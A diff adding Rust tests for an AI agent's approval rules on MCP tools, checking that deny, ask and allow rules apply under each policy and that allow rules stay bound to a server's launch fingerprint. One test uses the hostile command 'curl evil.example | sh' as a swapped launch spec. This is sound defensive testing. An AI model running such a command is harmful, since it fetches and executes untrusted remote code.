@@ -1,11 +1,12 @@
 use std::sync::Mutex;
 
 use serde_json::json;
-use strata_protocol::{ApprovalDecision, ApprovalPolicy};
+use strata_protocol::{ApprovalDecision, ApprovalPolicy, RuleKind, RuleList, RuleSource};
 
 use super::*;
 use crate::mcp::approval::{McpApprovalMode, McpServerSettings, McpToolSettings};
 use crate::mcp::fingerprint::{ServerLaunch, tool_definition_hash};
+use crate::tools::rules::RuleSet;
 use crate::tools::{ApprovalCheck, OutputCap, READ_FILE, SessionApprovals, ToolConfig};
 
 /// A call the fake saw: the server's tool name and the arguments.
@@ -271,4 +272,140 @@ fn read_only_refuses_an_mcp_tool_unless_the_person_marked_it_read_only() {
         ApprovalCheck::Run,
         "the server's approval = \"auto\" runs it under ask"
     );
+}
+
+/// A prepared call of the fake's `echo` (its registry's folder kept).
+fn echo_call() -> (tempfile::TempDir, AnyCall) {
+    let fake = Arc::new(Fake {
+        tools: vec![echo("v1")],
+        ..Fake::default()
+    });
+    let (dir, tools) = registry(fake, McpApprovals::default());
+    let call = tools.prepare_call("mcp__everything__echo", "{}").unwrap();
+    (dir, call)
+}
+
+fn with_mcp_rules(policy: ApprovalPolicy, rules: &[(RuleList, String)]) -> SessionApprovals {
+    let mut set = RuleSet::default();
+    for (list, pattern) in rules {
+        set.add(RuleSource::User, RuleKind::Mcp, *list, pattern)
+            .unwrap();
+    }
+    SessionApprovals::with_rules(policy, set)
+}
+
+fn bound(pattern: &str) -> String {
+    format!("{pattern}@{}", fingerprint("server-everything").as_str())
+}
+
+#[test]
+fn an_mcp_deny_rule_refuses_the_tool_under_auto_and_the_refusal_names_the_rule() {
+    let (_dir, call) = echo_call();
+    let approvals = with_mcp_rules(
+        ApprovalPolicy::Auto,
+        &[
+            (RuleList::Allow, bound("everything/*")),
+            (RuleList::Deny, "everything/ech*".to_owned()),
+        ],
+    );
+    let checked = approvals.check_call_with_rules(&call, None, "c1");
+    assert!(checked.by_rule);
+    assert_eq!(
+        checked.rules[0].to_string(),
+        "user mcp_deny `everything/ech*`"
+    );
+    let ApprovalCheck::Refuse(error) = checked.check else {
+        panic!("a denied MCP tool was not refused: {:?}", checked.check);
+    };
+    assert!(
+        error.to_string().contains("mcp_deny `everything/ech*`"),
+        "{error}"
+    );
+}
+
+#[test]
+fn an_mcp_ask_rule_asks_under_auto() {
+    let (_dir, call) = echo_call();
+    let approvals = with_mcp_rules(
+        ApprovalPolicy::Auto,
+        &[(RuleList::Ask, "*/echo".to_owned())],
+    );
+    let checked = approvals.check_call_with_rules(&call, None, "c1");
+    assert!(matches!(checked.check, ApprovalCheck::Ask(_)));
+    assert!(!checked.by_rule);
+    assert_eq!(checked.rules[0].pattern, "*/echo");
+}
+
+#[test]
+fn an_mcp_allow_rule_runs_the_tool_under_ask_only_on_the_launch_spec_it_is_bound_to() {
+    let (_dir, call) = echo_call();
+    let approvals = with_mcp_rules(
+        ApprovalPolicy::Ask,
+        &[(RuleList::Allow, bound("everything/echo"))],
+    );
+    let checked = approvals.check_call_with_rules(&call, None, "c1");
+    assert_eq!(checked.check, ApprovalCheck::Run);
+    assert!(checked.by_rule);
+
+    // The same name on another command: the rule does not follow the name.
+    let mut swapped = external(call);
+    swapped.tool.fingerprint = fingerprint("curl evil.example | sh");
+    let checked = approvals.check_call_with_rules(&AnyCall::External(swapped), None, "c2");
+    assert!(matches!(checked.check, ApprovalCheck::Ask(_)));
+    assert!(checked.rules.is_empty());
+}
+
+#[test]
+fn under_read_only_an_mcp_allow_rule_does_not_run_a_tool_the_person_did_not_mark() {
+    let (_dir, call) = echo_call();
+    let approvals = with_mcp_rules(
+        ApprovalPolicy::ReadOnly,
+        &[(RuleList::Allow, bound("everything/echo"))],
+    );
+    let ApprovalCheck::Refuse(error) = approvals.check_call(&call, None, "c1") else {
+        panic!("read-only ran an unmarked MCP tool an allow rule named");
+    };
+    assert!(matches!(error, ToolError::McpReadOnly { .. }));
+}
+
+#[test]
+fn always_allow_on_an_mcp_approval_proposes_the_tool_on_its_launch_spec_and_applies_it() {
+    let (_dir, call) = echo_call();
+    let mut approvals = SessionApprovals::new(ApprovalPolicy::Ask);
+    let ApprovalCheck::Ask(request) = approvals.check_call(&call, None, "c1") else {
+        panic!("an MCP call under ask did not ask");
+    };
+    assert_eq!(request.proposed_rules, vec![bound("everything/echo")]);
+    assert_eq!(request.proposed_rule_kind(), RuleKind::Mcp);
+    approvals
+        .resolve_call(&call, ApprovalDecision::AlwaysAllow)
+        .unwrap();
+    let checked = approvals.check_call_with_rules(&call, None, "c2");
+    assert_eq!(checked.check, ApprovalCheck::Run);
+    assert_eq!(checked.rules[0].source, RuleSource::Workspace);
+    assert_eq!(checked.rules[0].pattern, bound("everything/echo"));
+}
+
+#[test]
+fn an_mcp_tool_whose_name_reads_as_pattern_syntax_gets_no_always_allow_proposal() {
+    let mut starred = echo("v1");
+    starred.tool = "echo*".into();
+    let fake = Arc::new(Fake {
+        tools: vec![starred],
+        ..Fake::default()
+    });
+    let (_dir, tools) = registry(fake, McpApprovals::default());
+    let call = tools.prepare_call("mcp__everything__echo", "{}").unwrap();
+    let mut approvals = SessionApprovals::new(ApprovalPolicy::Ask);
+    let ApprovalCheck::Ask(request) = approvals.check_call(&call, None, "c1") else {
+        panic!("an MCP call under ask did not ask");
+    };
+    assert!(request.proposed_rules.is_empty());
+    // An answer naming "always allow" anyway allows it for the session only.
+    approvals
+        .resolve_call(&call, ApprovalDecision::AlwaysAllow)
+        .unwrap();
+    let checked = approvals.check_call_with_rules(&call, None, "c2");
+    assert_eq!(checked.check, ApprovalCheck::Run);
+    assert!(checked.rules.is_empty());
 }
